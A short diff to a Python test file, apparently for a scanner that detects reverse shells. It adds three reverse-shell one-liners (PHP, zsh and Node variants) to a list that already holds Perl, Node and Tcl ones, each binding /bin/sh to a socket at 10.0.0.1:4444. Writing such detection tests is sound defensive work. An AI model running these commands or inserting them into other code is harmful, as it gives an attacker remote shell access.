@@ -59,6 +59,9 @@ def test_what_it_only_says_is_left_alone(text: str, ruleset: Ruleset) -> None:
         "$c=new IO::Socket::INET(PeerAddr,'10.0.0.1:4444');STDIN->fdopen($c,r);system$_ while<>;",
         "const n=require('net');const c=require('child_process').spawn('/bin/sh');n.connect(1,'x',()=>c.stdin.pipe(c))",
         "set s [socket 10.0.0.1 4444]; exec sh <@$s >@$s",
+        "$s=FSOCKOPEN('10.0.0.1',4444);PROC_OPEN('/bin/sh -i',[$s,$s,$s],$p); popen('sh')",
+        "zmodload zsh/net/tcp; ztcp 10.0.0.1 4444; sh <&$REPLY >&$REPLY",
+        "const n=REQUIRE ( 'net' );require('child_process').spawn('/bin/sh').stdin",
     ],
 )
 def test_a_shell_on_a_socket_is_seen_in_any_language(code: str) -> None:
